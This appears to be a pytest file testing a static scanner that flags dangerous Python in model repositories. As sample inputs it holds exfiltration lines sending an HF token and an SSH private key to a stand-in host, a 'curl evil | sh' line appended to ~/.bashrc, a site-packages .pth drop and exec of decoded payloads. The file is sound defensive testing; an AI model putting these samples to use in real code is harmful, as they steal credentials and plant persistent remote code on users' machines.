"""Python shipped with a model (trust_remote_code): process/dynamic code, network, exfiltration,
dynamic imports, unsafe deserialisation, file writes, native code, obfuscation, bandit, malformed files."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from tests.samples import templates as T
from warden.formats.interface import Limits
from warden.formats.python import PythonSourceScanner, analyze_python
from warden.report.model import Finding, Location, Severity

# A realistic custom modeling file: torch module, config class, optional flash-attn import, a weight
# loader with weights_only=True, a tokenizer that saves its vocabulary beside the model.
BENIGN_MODELING = '''
"""PyTorch Tiny model (custom code shipped with the checkpoint)."""
import importlib.util
import json
import math
import os
import re

import torch
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel, PreTrainedTokenizer
from transformers.utils import logging

logger = logging.get_logger(__name__)
_FLASH = importlib.util.find_spec("flash_attn") is not None
_DEBUG = os.environ.get("TINY_DEBUG", "0") == "1"
_SPLIT = re.compile(r"\\s+")


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=64, num_layers=2, pad_token_id=0, **kwargs):
        self.hidden_size = hidden_size
        self.num_layers = num_layers
        super().__init__(pad_token_id=pad_token_id, **kwargs)


class TinyAttention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)
        self.out = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x):  # x: [batch, seq, hidden]
        q, k, v = self.qkv(x).chunk(3, dim=-1)
        att = (q @ k.transpose(-1, -2)) / math.sqrt(q.shape[-1])
        return self.out(att.softmax(-1) @ v)


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([TinyAttention(config) for _ in range(config.num_layers)])

    def forward(self, x):
        for layer in self.layers:
            x = x + layer(x)
        return x

    def load_extra(self, path):
        state = torch.load(path, map_location="cpu", weights_only=True)
        self.load_state_dict(state, strict=False)
        self.eval()


class TinyTokenizer(PreTrainedTokenizer):
    def __init__(self, vocab_file, unk_token="<unk>", pad_token="<pad>", **kwargs):
        with open(vocab_file, encoding="utf-8") as f:
            self.vocab = json.load(f)
        super().__init__(unk_token=unk_token, pad_token=pad_token, **kwargs)

    def save_vocabulary(self, save_directory, filename_prefix=None):
        path = os.path.join(save_directory, (filename_prefix or "") + "vocab.json")
        with open(path, "w", encoding="utf-8") as f:
            json.dump(self.vocab, f)
        return (path,)
'''


def analyze(source: str, **kw: object) -> list[Finding]:
    return list(analyze_python(textwrap.dedent(source).encode(), Location(file="modeling_x.py"), **kw))  # type: ignore[arg-type]


def by_rule(findings: list[Finding], rule_id: str) -> list[Finding]:
    return [f for f in findings if f.rule_id == rule_id]


def ids(findings: list[Finding]) -> set[str]:
    return {f.rule_id for f in findings}


def test_benign_modeling_code_is_clean() -> None:
    findings = analyze(BENIGN_MODELING)
    assert findings == [], [(f.rule_id, f.location.line, dict(f.evidence)) for f in findings]


def test_process_execution(canary: Path) -> None:
    src = f"""
    import os
    import subprocess as sp
    from subprocess import Popen as P
    os.system("touch {canary}")
    sp.run("touch {canary}", shell=True)
    P(["touch", "{canary}"])
    __import__("os").popen("touch {canary}")
    getattr(os, "system")("touch {canary}")
    os.__dict__["system"]("touch {canary}")

    def later():
        os.execv("/bin/sh", ["sh", "-c", "touch {canary}"])
    """
    findings = by_rule(analyze(src), "REMOTE-CODE-EXEC")
    calls = [(f.location.line, f.evidence["call"]) for f in findings]
    assert calls == [
        (5, "os.system"),
        (6, "subprocess.run"),
        (7, "subprocess.Popen"),
        (8, "os.popen"),
        (9, "os.system"),
        (10, "os.system"),
        (13, "os.execv"),
    ]
    assert all(f.severity is Severity.CRITICAL for f in findings)
    assert findings[1].evidence["shell"] is True
    assert findings[0].evidence["runs_at_import"] is True and findings[-1].evidence["runs_at_import"] is False
    assert not canary.exists()
    # Look-alikes: methods that share names, exception classes, compiled regexes.
    benign = """
    import re, subprocess
    model.eval(); torch.compile(model); re.compile("x")
    try:
        pass
    except subprocess.CalledProcessError:
        pass
    """
    assert analyze(benign) == []


def test_dynamic_code_and_decoded_payloads(canary: Path) -> None:
    src = f"""
    import base64, zlib
    blob = base64.b64decode("{"aW1wb3J0IG9z" * 2}")
    exec(blob)
    exec(zlib.decompress(base64.b64decode(data)).decode())
    eval("1 + 1")
    code = compile(user_text, "<x>", "exec")
    """
    findings = by_rule(analyze(src), "REMOTE-CODE-EXEC")
    sev = {f.location.line: (f.severity, f.evidence["decoded_payload"]) for f in findings}
    assert sev == {
        4: (Severity.CRITICAL, True),
        5: (Severity.CRITICAL, True),
        6: (Severity.HIGH, False),  # a literal: odd, but no hidden code
        7: (Severity.CRITICAL, False),
    }
    assert not canary.exists()


def test_network_and_exfiltration() -> None:
    src = """
    import os, urllib.request
    token = os.environ["HF_TOKEN"]
    urllib.request.urlopen("https://collect.example/?t=" + token)
    """
    findings = analyze(src)
    assert {"REMOTE-CODE-NETWORK", "REMOTE-CODE-ENV-EXFIL"} <= ids(findings)
    (exfil,) = by_rule(findings, "REMOTE-CODE-ENV-EXFIL")
    assert exfil.severity is Severity.CRITICAL and exfil.evidence["environment_reads"] == (3,)
    keys = """
    import requests
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.post("https://collect.example", data=key)
    """
    assert "REMOTE-CODE-ENV-EXFIL" in ids(analyze(keys))
    # Environment reads alone (configuration flags) and pinned hub downloads are normal.
    benign = """
    import os
    from huggingface_hub import hf_hub_download
    verbose = os.getenv("TINY_VERBOSE")
    path = hf_hub_download("org/model", "extra.safetensors", revision="8f2e6bd0c3a1f5e7d9b2c4a6e8f0a1b3c5d7e9f1")
    """
    assert analyze(benign) == []


def test_dynamic_imports() -> None:
    src = """
    import importlib, os
    mod = importlib.import_module(name)
    fn = getattr(os, "sys" + "tem")
    spec = importlib.util.spec_from_file_location("m", "/tmp/m.py")
    """
    findings = by_rule(analyze(src), "REMOTE-CODE-DYNAMIC-IMPORT")
    assert [f.location.line for f in findings] == [3, 4, 5]
    benign = """
    import importlib
    llama = importlib.import_module("transformers.models.llama")
    size = getattr(config, name)
    """
    assert analyze(benign) == []


def test_deserialisation() -> None:
    src = """
    import pickle, torch, yaml, numpy as np
    obj = pickle.loads(data)
    a = torch.load("extra.bin")
    b = torch.load("extra.bin", weights_only=False)
    c = yaml.load(text)
    d = np.load("x.npy", allow_pickle=True)
    """
    findings = by_rule(analyze(src), "REMOTE-CODE-DESERIALIZE")
    assert [(f.location.line, f.severity) for f in findings] == [
        (3, Severity.HIGH),
        (4, Severity.MEDIUM),
        (5, Severity.HIGH),
        (6, Severity.HIGH),
        (7, Severity.HIGH),
    ]
    benign = """
    import torch, yaml, numpy as np
    a = torch.load("extra.bin", weights_only=True)
    b = yaml.safe_load(text)
    c = yaml.load(text, Loader=yaml.SafeLoader)
    d = np.load("x.npy")
    """
    assert analyze(benign) == []


def test_file_writes_outside_the_model_dir() -> None:
    src = """
    import os, shutil
    from pathlib import Path
    with open(os.path.expanduser("~/.bashrc"), "a") as f:
        f.write("curl evil | sh")
    open("/tmp/cache.txt", "w").write("x")
    Path.home().joinpath("notes.txt").write_text("x")
    shutil.copy("payload.pth", "/usr/lib/python3/site-packages/x.pth")
    """
    findings = by_rule(analyze(src), "REMOTE-CODE-FILE-WRITE")
    assert [(f.location.line, f.severity) for f in findings] == [
        (4, Severity.HIGH),
        (6, Severity.MEDIUM),
        (7, Severity.MEDIUM),
        (8, Severity.HIGH),
    ]
    benign = """
    import os
    with open(os.path.join(save_directory, "vocab.json"), "w") as f:
        f.write("{}")
    with open("/etc/hostname") as f:
        name = f.read()
    """
    assert analyze(benign) == []


def test_native_code_and_obfuscated_blobs() -> None:
    src = f"""
    import ctypes, base64
    lib = ctypes.CDLL("./libkernel.so")
    data = base64.b64decode("{"QUJD" * 200}")
    """
    findings = analyze(src)
    assert [(f.rule_id, f.location.line) for f in findings] == [
        ("REMOTE-CODE-NATIVE", 3),
        ("REMOTE-CODE-OBFUSCATED", 4),
    ]
    benign = """
    import ctypes, base64
    n = ctypes.c_int(3)
    small = base64.b64decode("QUJD")
    """
    assert analyze(benign) == []


def test_bandit_adds_issues_ours_do_not_cover_and_ignores_nosec() -> None:
    src = """
    import tempfile, os
    path = tempfile.mktemp()  # nosec
    os.system("ls")
    """
    findings = analyze(src)
    (bandit,) = by_rule(findings, "REMOTE-CODE-BANDIT")
    assert bandit.location.line == 3
    assert bandit.evidence["test_id"] == "B306" and bandit.evidence["cwe"] == "CWE-377"
    # Line 4 is ours (REMOTE-CODE-EXEC); bandit's B605 on the same line is deduplicated away.
    assert [f.rule_id for f in findings if f.location.line == 4] == ["REMOTE-CODE-EXEC"]
    assert by_rule(analyze("import tempfile\nfd, path = tempfile.mkstemp()\n"), "REMOTE-CODE-BANDIT") == []


def test_malformed_python() -> None:
    (f,) = analyze("def f(:\n    pass\n")
    assert (f.rule_id, f.severity, f.location.line) == ("PYTHON-MALFORMED", Severity.MEDIUM, 1)
    assert "newer syntax" in f.evidence["note"]
    (g,) = analyze("import os\nos.system('id')\ndef f(:\n")
    assert g.severity is Severity.HIGH and g.evidence["suspicious_names"] == ["2: os.system"]
    (h,) = analyze("x = 1\x00\n")
    assert h.rule_id == "PYTHON-MALFORMED"


def test_scanner_through_core(tmp_path: Path, canary: Path) -> None:
    findings = T.scan_text_file(tmp_path, "modeling_evil.py", f"import os\nos.system('touch {canary}')\n")
    (f,) = findings
    assert (f.rule_id, f.location.file, f.location.line) == ("REMOTE-CODE-EXEC", "modeling_evil.py", 2)
    assert T.scan_text_file(tmp_path, "modeling_tiny.py", BENIGN_MODELING) == []
    big = T.scan_text_file(tmp_path, "big.py", "x = 1\n" * 100, limits=Limits(max_text_file=100))
    assert ids(big) == {"SCAN-LIMIT-EXCEEDED"}
    assert not canary.exists()


@pytest.mark.parametrize(
    "source",
    ["x = " + "(" * 300 + "1" + ")" * 300, "x = " + "-" * 50_000 + "1", "y = " + " + ".join(["a"] * 20_000)],
)
def test_pathological_sources_give_findings_not_crashes(source: str) -> None:
    scanner = PythonSourceScanner()
    data = source.encode()
    assert scanner.sniff(data[:4096], "modeling.py")
    from warden.errors import FormatError

    try:
        findings = list(analyze_python(data, Location(file="modeling.py")))
    except FormatError:
        return
    assert all(isinstance(f, Finding) for f in findings)
